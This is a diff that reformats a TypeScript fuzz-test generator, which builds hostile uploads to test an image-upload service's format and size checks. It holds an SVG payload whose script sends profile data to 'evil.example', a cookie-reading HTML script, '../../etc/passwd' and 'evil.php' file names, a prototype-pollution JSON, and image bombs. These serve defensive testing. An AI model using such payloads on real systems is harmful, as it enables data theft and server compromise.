@@ -20,9 +20,43 @@ export type HostileUpload = {
   expect: 'refused' | 'may-succeed' | 'valid' | UploadErrorCode;
 };
 
-const JPEG_FIXTURES = ['kitchen_1.jpg', 'kitchen_1_exif_orientation_6.jpg', 'dining_room_1.jpg', 'home_office_1.jpg', 'living_room_1.jpg', 'bedroom_1.jpg', 'kitchen_2.jpg', 'living_room_12mp.jpg'];
-const CONTENT_TYPES = ['image/jpeg', 'image/png', 'image/webp', 'image/heic', 'image/svg+xml', 'text/html', 'text/plain', 'application/json', 'application/zip', 'application/octet-stream', 'multipart/form-data; boundary=x', ''];
-const FILE_NAMES = ['photo.jpg', 'photo.png', 'photo.heic', 'evil.php', 'index.html', 'drawing.svg', '../../etc/passwd', 'a'.repeat(400) + '.jpg', '%E0%A4%A', 'résumé%20final.jpg', null];
+const JPEG_FIXTURES = [
+  'kitchen_1.jpg',
+  'kitchen_1_exif_orientation_6.jpg',
+  'dining_room_1.jpg',
+  'home_office_1.jpg',
+  'living_room_1.jpg',
+  'bedroom_1.jpg',
+  'kitchen_2.jpg',
+  'living_room_12mp.jpg',
+];
+const CONTENT_TYPES = [
+  'image/jpeg',
+  'image/png',
+  'image/webp',
+  'image/heic',
+  'image/svg+xml',
+  'text/html',
+  'text/plain',
+  'application/json',
+  'application/zip',
+  'application/octet-stream',
+  'multipart/form-data; boundary=x',
+  '',
+];
+const FILE_NAMES = [
+  'photo.jpg',
+  'photo.png',
+  'photo.heic',
+  'evil.php',
+  'index.html',
+  'drawing.svg',
+  '../../etc/passwd',
+  'a'.repeat(400) + '.jpg',
+  '%E0%A4%A',
+  'résumé%20final.jpg',
+  null,
+];
 
 const SVG_WITH_SCRIPT = `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)"><script>fetch('/api/profile').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script><rect width="100" height="100"/></svg>`;
 const HTML_PAYLOAD = '<html><body><script>alert(document.cookie)</script></body></html>';
@@ -77,7 +111,7 @@ function crc32(data: Buffer): number {
 /** The same JPEG with its frame header (SOF0/SOF2) declaring width × height. */
 function jpegDeclaring(jpeg: Buffer, width: number, height: number): Buffer {
   const copy = Buffer.from(jpeg);
-  for (let offset = 2; offset + 9 < copy.length; ) {
+  for (let offset = 2; offset + 9 < copy.length;) {
     const marker = copy[offset + 1];
     const length = copy.readUInt16BE(offset + 2);
     if (marker === 0xc0 || marker === 0xc2) {
@@ -108,9 +142,15 @@ async function sharpSources(random: () => number): Promise<Buffer[]> {
     // the sum of three uniform draws, roughly Gaussian around mid-grey.
     const pixels = Buffer.alloc(width * height * 3);
     for (let at = 0; at < pixels.length; at += 1) pixels[at] = Math.round(128 + (random() + random() + random() - 1.5) * 80);
-    const image = await sharp(pixels, { raw: { width, height, channels: 3 } }).png().toBuffer();
+    const image = await sharp(pixels, { raw: { width, height, channels: 3 } })
+      .png()
+      .toBuffer();
     const base = sharp(image);
-    sources.push(await base.clone().jpeg({ quality: 80 }).toBuffer(), await base.clone().png().toBuffer(), await base.clone().webp({ quality: 70 }).toBuffer());
+    sources.push(
+      await base.clone().jpeg({ quality: 80 }).toBuffer(),
+      await base.clone().png().toBuffer(),
+      await base.clone().webp({ quality: 70 }).toBuffer(),
+    );
   }
   return sources;
 }
@@ -130,8 +170,19 @@ export async function hostileUploads(seed: number, count = 1000): Promise<Hostil
   const small = await sharpSources(random);
   const smallJpeg = small[0];
   const cases: HostileUpload[] = [];
-  const add = (label: string, data: Buffer, expect: HostileUpload['expect'], headers: Partial<Pick<HostileUpload, 'contentType' | 'fileName'>> = {}) =>
-    cases.push({ label, data, expect, contentType: headers.contentType ?? pick(CONTENT_TYPES), fileName: headers.fileName === undefined ? pick(FILE_NAMES) : headers.fileName });
+  const add = (
+    label: string,
+    data: Buffer,
+    expect: HostileUpload['expect'],
+    headers: Partial<Pick<HostileUpload, 'contentType' | 'fileName'>> = {},
+  ) =>
+    cases.push({
+      label,
+      data,
+      expect,
+      contentType: headers.contentType ?? pick(CONTENT_TYPES),
+      fileName: headers.fileName === undefined ? pick(FILE_NAMES) : headers.fileName,
+    });
 
   const truncated = (source: Buffer) => source.subarray(0, 1 + below(source.length - 1));
   const flipped = (source: Buffer) => {
@@ -143,27 +194,56 @@ export async function hostileUploads(seed: number, count = 1000): Promise<Hostil
 
   // Fixed cases: sizes at the edges, bombs, non-images that pretend.
   add('zero bytes', Buffer.alloc(0), 'INVALID_FORMAT');
-  add('5 MB + 1 byte, JPEG magic', Buffer.concat([smallJpeg, Buffer.alloc(LIMITS.uploadMaxBytes + 1 - smallJpeg.length)]), 'FILE_TOO_LARGE');
+  add(
+    '5 MB + 1 byte, JPEG magic',
+    Buffer.concat([smallJpeg, Buffer.alloc(LIMITS.uploadMaxBytes + 1 - smallJpeg.length)]),
+    'FILE_TOO_LARGE',
+  );
   add('5 MB + 1 byte of noise', noise(LIMITS.uploadMaxBytes + 1), 'FILE_TOO_LARGE');
-  add('exactly 5 MB, JPEG magic then zeros', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(LIMITS.uploadMaxBytes - 3)]), 'LOAD_FAILED');
-  for (let length = 1; length <= 16; length += 1) add(`${length} byte(s) of JPEG/PNG magic`, Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0, 0, 0, 0, 0]).subarray(0, length), 'refused');
+  add(
+    'exactly 5 MB, JPEG magic then zeros',
+    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(LIMITS.uploadMaxBytes - 3)]),
+    'LOAD_FAILED',
+  );
+  for (let length = 1; length <= 16; length += 1)
+    add(
+      `${length} byte(s) of JPEG/PNG magic`,
+      Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0, 0, 0, 0, 0]).subarray(0, length),
+      'refused',
+    );
   add('SVG with script', Buffer.from(SVG_WITH_SCRIPT), 'INVALID_FORMAT', { contentType: 'image/svg+xml', fileName: 'photo.svg' });
   add('SVG with script named .jpg', Buffer.from(SVG_WITH_SCRIPT), 'INVALID_FORMAT', { contentType: 'image/jpeg', fileName: 'photo.jpg' });
   add('HTML named .png', Buffer.from(HTML_PAYLOAD), 'INVALID_FORMAT', { contentType: 'image/png', fileName: 'photo.png' });
   add('GIF', await sharp(small[1]).gif().toBuffer(), 'INVALID_FORMAT', { contentType: 'image/gif' });
   add('TIFF', await sharp(small[1]).tiff().toBuffer(), 'INVALID_FORMAT', { contentType: 'image/tiff' });
-  add('AVIF (HEIF container, AV1)', await sharp(small[1]).avif({ quality: 40 }).toBuffer(), 'INVALID_FORMAT', { contentType: 'image/heic', fileName: 'photo.heic' });
+  add('AVIF (HEIF container, AV1)', await sharp(small[1]).avif({ quality: 40 }).toBuffer(), 'INVALID_FORMAT', {
+    contentType: 'image/heic',
+    fileName: 'photo.heic',
+  });
   add('PDF', Buffer.from('%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF'), 'INVALID_FORMAT', { contentType: 'application/pdf' });
   add('ZIP', tinyZip(), 'INVALID_FORMAT', { contentType: 'application/zip' });
   add('JSON', Buffer.from('{"uploadId":"x","__proto__":{"admin":true}}'), 'INVALID_FORMAT', { contentType: 'application/json' });
-  for (const [width, height] of [[30_000, 30_000], [65_535, 65_535], [7072, 7072]]) add(`PNG declaring ${width}×${height}`, await pngDeclaring(width, height), 'PROCESSING_FAILED');
+  for (const [width, height] of [
+    [30_000, 30_000],
+    [65_535, 65_535],
+    [7072, 7072],
+  ])
+    add(`PNG declaring ${width}×${height}`, await pngDeclaring(width, height), 'PROCESSING_FAILED');
   // Past what libpng itself accepts: refused one way or the other.
-  for (const [width, height] of [[1, 2_147_483_647], [1_000_000, 100]]) add(`PNG declaring ${width}×${height}`, await pngDeclaring(width, height), 'refused');
+  for (const [width, height] of [
+    [1, 2_147_483_647],
+    [1_000_000, 100],
+  ])
+    add(`PNG declaring ${width}×${height}`, await pngDeclaring(width, height), 'refused');
   // Real pixel data, highly compressible: 8000×8000 zero-filled greyscale is 64 MP in about 60 KB.
   add('compressible PNG 8000×8000', compressiblePng(8000, 8000), 'PROCESSING_FAILED');
   add('compressible PNG 20000×3000', compressiblePng(20_000, 3000), 'PROCESSING_FAILED');
   add('compressible PNG 7000×7000 (49 MP, under the cap)', compressiblePng(7000, 7000), 'may-succeed');
-  for (const [width, height] of [[30_000, 30_000], [8000, 8000]]) add(`JPEG declaring ${width}×${height}`, jpegDeclaring(jpegs[0], width, height), 'PROCESSING_FAILED');
+  for (const [width, height] of [
+    [30_000, 30_000],
+    [8000, 8000],
+  ])
+    add(`JPEG declaring ${width}×${height}`, jpegDeclaring(jpegs[0], width, height), 'PROCESSING_FAILED');
   // libjpeg itself stops at 65,500 px, and libwebp finds the bitstream does not match: refused before any decode.
   add('JPEG declaring 65535×65535', jpegDeclaring(jpegs[0], 65_535, 65_535), 'refused');
   const lossless = await sharp(small[1]).webp({ lossless: true }).toBuffer();
@@ -177,9 +257,17 @@ export async function hostileUploads(seed: number, count = 1000): Promise<Hostil
     const image = pick(small.filter((_, at) => at % 3 === 0));
     add(`JPEG + ZIP #${index}`, Buffer.concat([image, tinyZip()]), 'may-succeed', { contentType: 'image/jpeg' });
     add(`JPEG + HTML #${index}`, Buffer.concat([image, Buffer.from(HTML_PAYLOAD)]), 'may-succeed');
-    add(`JPEG header + HTML #${index}`, Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(HTML_PAYLOAD), noise(below(512))]), 'LOAD_FAILED');
+    add(
+      `JPEG header + HTML #${index}`,
+      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(HTML_PAYLOAD), noise(below(512))]),
+      'LOAD_FAILED',
+    );
     add(`JPEG header + ZIP #${index}`, Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0x00, 0x40]), tinyZip()]), 'LOAD_FAILED');
-    add(`PNG header + SVG #${index}`, Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from(SVG_WITH_SCRIPT)]), 'LOAD_FAILED');
+    add(
+      `PNG header + SVG #${index}`,
+      Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from(SVG_WITH_SCRIPT)]),
+      'LOAD_FAILED',
+    );
   }
 
   // Valid images under the wrong name and type: the bytes decide, so these succeed.
